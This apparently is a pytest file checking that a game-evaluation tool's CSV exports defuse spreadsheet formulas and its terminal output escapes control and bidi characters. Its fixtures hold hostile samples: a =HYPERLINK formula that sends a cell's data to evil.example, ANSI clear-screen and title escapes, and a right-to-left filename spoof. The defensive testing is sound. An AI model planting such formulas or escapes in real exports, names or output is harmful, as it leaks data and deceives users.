"""Text from models and from run directories, on its way out: CSV cells a spreadsheet would run, terminal escapes.

A run directory may come from anyone and its text from any model, so a CSV export neutralises cells that would start a
formula (``=HYPERLINK(``, ``+``, ``-``, ``@``, tab, CR) and escapes control characters, while numbers stay numbers and
JSON Lines and Parquet keep the exact text; and ``run`` and ``report`` print names holding ESC or U+202E escaped.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from analysis.export import FORMULA_STARTS, MATCH_COLUMNS, TURN_COLUMNS, csv_text, seat_columns
from deepeval_games import parse_spec, run_experiment
from deepeval_games.app.commands.cli import main
from tests.fake_openai_server import Behaviour, FakeOpenAIServer, model_player

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open me")'
REPLY = LINK + '\x00\x1b[2J {"reason": "r", "coins": 3}'  # a formula, NUL and a clear-screen, then a valid move
ANSI_NAME = "\x1b[31mred\x1b[0m"
BIDI_NAME = "evil\u202egnp.exe"
NAMES = [LINK, ANSI_NAME, BIDI_NAME, "-2+3"]
CONTROLS = ("\x00", "\x1b", "\u202e", "\r")


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A Public Goods run whose model replies and player names start with a formula or hold terminal escapes."""
    root = tmp_path_factory.mktemp("hostile")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("FAKE_PROVIDER_KEY", "sk-test-not-a-secret")
        with FakeOpenAIServer(default=Behaviour.reply(REPLY), max_hang_s=5) as server:
            spec = parse_spec(
                {
                    "experiment": {
                        "name": "hostile",
                        "game": "deepeval_public_goods(players=4,rounds=2,mode=1,alpha=1.6)",
                        "cache": False,
                    },
                    "players": [
                        model_player(LINK, server, model="openai/fake-model"),
                        {"name": ANSI_NAME, "bot": "pgg_free_rider"},
                        {"name": BIDI_NAME, "bot": "pgg_full_contributor"},
                        {"name": "-2+3", "bot": "pgg_conditional_cooperator"},
                    ],
                }
            )
            result = run_experiment(spec, root / "run")
    assert result.played == 1 and not result.failed
    return root / "run"


def _csv_rows(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\r=1", "\\r=1"),  # escaped, so no longer a formula start
        ("a\x1b[2Jb\x00", "a\\x1b[2Jb\\x00"),
        ("line\nnext\ttab", "line\nnext\ttab"),
        ("plain text, 成语", "plain text, 成语"),
    ],
)
def test_csv_text_neutralises_formulas_and_escapes_controls(text: str, cell: str) -> None:
    assert csv_text(text) == cell


def test_a_csv_export_opens_as_text_and_numbers_stay_numbers(hostile_run: Path, tmp_path: Path) -> None:
    for level, columns in (("match", MATCH_COLUMNS + seat_columns(4)), ("turn", TURN_COLUMNS)):
        out = tmp_path / f"{level}.csv"
        assert main(["export", str(hostile_run), "--level", level, "--out", str(out)]) == 0
        rows = _csv_rows(out)
        assert rows
        text_columns = {c.name for c in columns if c.type == "str"}
        for row in rows:
            for name, cell in row.items():
                if name in text_columns:
                    assert not cell.startswith(FORMULA_STARTS), (name, cell)
                    assert not any(char in cell for char in CONTROLS), (name, cell)
                elif cell:  # numeric columns: plain numbers a spreadsheet reads as numbers
                    float(cell)
    match = _csv_rows(tmp_path / "match.csv")[0]
    players = [match[f"seat{i}_player"] for i in range(4)]
    assert "'" + LINK in players and "'-2+3" in players
    assert "\\x1b[31mred\\x1b[0m" in players and "evil\\u202egnp.exe" in players
    assert [float(match[f"seat{i}_return"]) for i in range(4)]  # returns are numbers, not text
    turns = [row for row in _csv_rows(tmp_path / "turn.csv") if row["last_reply"]]
    assert len(turns) == 2
    for row in turns:
        assert row["player"] == "'" + LINK
        assert row["last_reply"].startswith("'" + LINK + "\\x00\\x1b[2J")


def test_raw_text_and_jsonl_keep_the_exact_text(hostile_run: Path, tmp_path: Path) -> None:
    raw = tmp_path / "raw.csv"
    assert main(["export", str(hostile_run), "--level", "turn", "--raw-text", "--out", str(raw)]) == 0
    replies = [row["last_reply"] for row in _csv_rows(raw) if row["last_reply"]]
    assert replies == [REPLY, REPLY]
    lines = tmp_path / "turns.jsonl"
    assert main(["export", str(hostile_run), "--level", "turn", "--format", "jsonl", "--out", str(lines)]) == 0
    rows = [json.loads(line) for line in lines.read_text(encoding="utf-8").splitlines()]
    assert [row["last_reply"] for row in rows if row["last_reply"]] == [REPLY, REPLY]
    assert {row["player"] for row in rows} >= set(NAMES)


def test_parquet_keeps_the_exact_text(hostile_run: Path, tmp_path: Path) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    out = tmp_path / "m.parquet"
    assert main(["export", str(hostile_run), "--format", "parquet", "--out", str(out)]) == 0
    table = pq.read_table(out).to_pylist()[0]
    assert {table[f"seat{i}_player"] for i in range(4)} == set(NAMES)


def _escaped_in(output: str) -> None:
    assert "\x1b" not in output and "\u202e" not in output and "\x00" not in output
    assert "\\x1b[31mred\\x1b[0m" in output and "evil\\u202egnp.exe" in output


def test_report_prints_names_escaped(hostile_run: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["report", str(hostile_run)]) == 0
    captured = capsys.readouterr()
    _escaped_in(captured.out)
    assert "\x1b" not in captured.err


def test_run_prints_names_escaped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    spec = tmp_path / "spec.toml"
    spec.write_text(
        '[experiment]\nname = "\\u001b]0;pwned\\u0007"\ngame = "deepeval_public_goods(players=4,rounds=2,mode=1)"\n'
        '[[players]]\nname = "\\u001b[31mred\\u001b[0m"\nbot = "pgg_free_rider"\n'
        '[[players]]\nname = "evil\\u202egnp.exe"\nbot = "pgg_full_contributor"\n'
        '[[players]]\nname = "c"\nbot = "pgg_conditional_cooperator"\n'
        '[[players]]\nname = "d"\nbot = "pgg_random"\n',
        encoding="utf-8",
    )
    assert main(["run", str(spec), "--out", str(tmp_path / "run")]) == 0
    captured = capsys.readouterr()
    _escaped_in(captured.out)
    assert "\x1b" not in captured.err and "\x07" not in captured.err  # the progress bar's name too


@pytest.mark.parametrize(
    ("text", "keep_lines", "shown"),
    [
        ("\x1b[31mred", True, "\\x1b[31mred"),
        ("a\u202eb\u2066c\u200f", True, "a\\u202eb\\u2066c\\u200f"),
        ("a\nb\tc\r", True, "a\nb\tc\\r"),
        ("a\nb\tc", False, "a\\nb\\tc"),
        ("\x00\x7f\x85", True, "\\x00\\x7f\\x85"),
        ("成语 é ok", True, "成语 é ok"),
    ],
)
def test_visible_escapes_controls_and_bidi_overrides(text: str, keep_lines: bool, shown: str) -> None:
    from deepeval_games.core.quoting import visible

    assert visible(text, keep_lines=keep_lines) == shown
